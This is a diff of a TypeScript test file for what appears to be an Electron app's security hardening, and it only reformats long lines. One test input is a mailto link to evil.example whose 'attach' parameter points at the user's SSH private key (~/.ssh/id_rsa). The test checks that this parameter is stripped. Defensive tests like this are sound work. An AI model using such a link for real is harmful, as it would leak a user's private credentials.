@@ -83,7 +83,11 @@ describe('hardenWebContents', () => {
 describe('handleWindowOpen', () => {
   it('opens the normalized URL, so a mailto link cannot ask the mail app to attach a local file', async () => {
     const openExternal = vi.fn(async (_url: string) => {});
-    const verdict = handleWindowOpen('mailto:x@evil.example?attach=~/.ssh/id_rsa&subject=Hi', { isAppPage, openExternal, logger: memoryLogger() });
+    const verdict = handleWindowOpen('mailto:x@evil.example?attach=~/.ssh/id_rsa&subject=Hi', {
+      isAppPage,
+      openExternal,
+      logger: memoryLogger(),
+    });
     expect(verdict).toEqual({ action: 'deny' });
     expect(openExternal.mock.calls).toEqual([['mailto:x@evil.example?subject=Hi']]);
   });
@@ -118,7 +122,11 @@ describe('denyAllPermissions', () => {
     denyAllPermissions(session as unknown as Session, memoryLogger());
     for (const permission of ['media', 'notifications', 'geolocation', 'clipboard-read', 'openExternal']) {
       const callback = vi.fn();
-      (handlers.request as unknown as (c: unknown, p: string, cb: (granted: boolean) => void) => void)({}, permission, callback);
+      (handlers.request as unknown as (c: unknown, p: string, cb: (granted: boolean) => void) => void)(
+        {},
+        permission,
+        callback,
+      );
       expect(callback).toHaveBeenCalledWith(false);
       expect((handlers.check as unknown as (c: unknown, p: string) => boolean)({}, permission)).toBe(false);
     }
